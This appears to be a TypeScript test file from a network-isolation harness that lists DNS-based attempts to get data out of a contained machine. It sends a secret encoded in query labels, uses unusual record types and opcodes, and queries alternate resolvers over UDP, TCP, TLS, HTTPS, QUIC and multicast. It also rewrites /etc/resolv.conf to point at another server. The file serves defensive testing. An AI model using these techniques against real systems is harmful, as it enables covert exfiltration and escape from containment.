// Attempts by names: a question that leaves the machine carries what is written in it, whoever answers.
import type { Attempt } from '../attempt.ts'
import type { Step } from '../attacker/steps.ts'

const theme = 'names'
const secret = `${'0123456789abcdef'.repeat(3)}.${'fedcba9876543210'.repeat(3)}`

const questions: readonly Attempt[] = [
  attempt('a name nobody declared', { do: 'resolve', name: '{token}.example.test' }),
  attempt('labels that carry data', { do: 'resolve', name: `${secret}.{token}.example.test` }),
  attempt('the longest possible name', { do: 'query', name: `${'a'.repeat(63)}.${'b'.repeat(63)}.${'c'.repeat(63)}.{token}.test` }),
  attempt('a name with bytes that are no letters', { do: 'query', name: 'a\x01b\xff_ c.{token}.test' }),
  attempt('a name in capitals', { do: 'query', name: '{token}.EXAMPLE.TEST' }),
  attempt('a name of one label', { do: 'query', name: '{token}' }),
  attempt('a name in the search domain', { do: 'query', name: '{token}.corp.test' }),
  attempt('a name in the cluster domain', { do: 'query', name: '{token}.default.svc.cluster.local' }),
  attempt('a name of the local network', { do: 'query', name: '{token}.local' }),
  ...(
    [
      ['AAAA', 28],
      ['TXT', 16],
      ['ANY', 255],
      ['NULL', 10],
      ['MX', 15],
      ['SRV', 33],
      ['NS', 2],
      ['CNAME', 5],
      ['HTTPS', 65],
      ['CAA', 257],
      ['a type that nobody knows', 65_280],
    ] as const
  ).map(([name, type]) => attempt(`a question for ${name}`, { do: 'query', name: '{token}.example.test', type })),
  attempt('the name of an address', { do: 'query', name: '{token}.18.198.in-addr.arpa', type: 12 }),
  attempt('a question of class CHAOS', { do: 'query', name: '{token}.bind', type: 16, class: 3 }),
  attempt('an update instead of a question', { do: 'query', name: '{token}.example.test', flags: '2800' }),
  attempt('a notification instead of a question', { do: 'query', name: '{token}.example.test', flags: '2000' }),
  attempt('an answer instead of a question', { do: 'query', name: '{token}.example.test', flags: '8180' }),
  attempt('two questions in one packet', { do: 'query', name: 'first.test', also: '{token}.example.test' }),
  attempt('data in an EDNS option', { do: 'query', name: 'example.test', option: '{token}' }),
  attempt('a question by TCP', { do: 'query', name: '{token}.example.test', over: 'tcp' }),
  attempt('a zone transfer', { do: 'query', name: '{token}.example.test', type: 252, over: 'tcp' }),
]

const elsewhere: readonly Attempt[] = [
  attempt('another name server by UDP', { do: 'query', name: '{token}.example.test', at: '{v4}:53' }),
  attempt('another name server by UDP over IPv6', { do: 'query', name: '{token}.example.test', at: '[{v6}]:53' }),
  attempt('another name server by TCP', { do: 'query', name: '{token}.example.test', at: '{v4}:53', over: 'tcp' }),
  attempt('another name server by TCP over IPv6', { do: 'query', name: '{token}.example.test', at: '[{v6}]:53', over: 'tcp' }),
  attempt('the machine’s own name server', { do: 'query', name: '{token}.example.test', at: '127.0.0.53:53' }),
  attempt('the machine’s own name server by TCP', { do: 'query', name: '{token}.example.test', at: '127.0.0.53:53', over: 'tcp' }),
  attempt('a name server on the machine’s loopback', { do: 'query', name: '{token}.example.test', at: '[::1]:53' }),
  attempt('a name server at another port', { do: 'question', name: '{token}.example.test', to: '{v4}:5353' }),
  attempt('DNS over TLS', { do: 'tcp', to: '{v4}:853', tls: '{token}.example.test' }),
  attempt('DNS over HTTPS', { do: 'tcp', to: '{v4}:443', tls: 'dns.{token}.test' }),
  attempt('DNS over plain HTTP', {
    do: 'tcp',
    to: '{v4}:80',
    send: ['GET /dns-query?dns=AAABAAABAAAAAAAA HTTP/1.1\r\nHost: {token}.test\r\naccept: application/dns-message\r\n\r\n'],
  }),
  attempt('DNS over QUIC', { do: 'udp', to: '{v4}:853', data: `hex:c3000000010811223344556677880000449e${'5a'.repeat(1182)}` }),
  attempt('multicast DNS', { do: 'question', name: '{token}.local', to: '224.0.0.251:5353', multicast: true }),
  attempt('multicast DNS over IPv6', { do: 'question', name: '{token}.local', to: '[ff02::fb%*]:5353' }),
  attempt('link-local name resolution', { do: 'question', name: '{token}', to: '224.0.0.252:5355', multicast: true }),
  attempt('NetBIOS names', { do: 'udp', to: '192.0.2.255:137', broadcast: true }),
  attempt('busybox asks another server', { do: 'run', argv: ['busybox', 'nslookup', '{token}.example.test', '{v4}'] }),
  {
    name: 'a resolv.conf of its own',
    theme,
    serial: true,
    attack: [
      { do: 'replace', path: '/etc/resolv.conf', text: 'nameserver {v4}\noptions timeout:1 attempts:1\n' },
      { do: 'run', argv: ['getent', 'ahosts', '{token}.example.test'] },
      { do: 'replace', path: '/etc/resolv.conf', text: '{resolvConf}' },
    ],
  },
]

export const nameAttempts: readonly Attempt[] = [...questions, ...elsewhere]

function attempt(name: string, step: Step): Attempt {
  return { name, theme, attack: [step] }
}
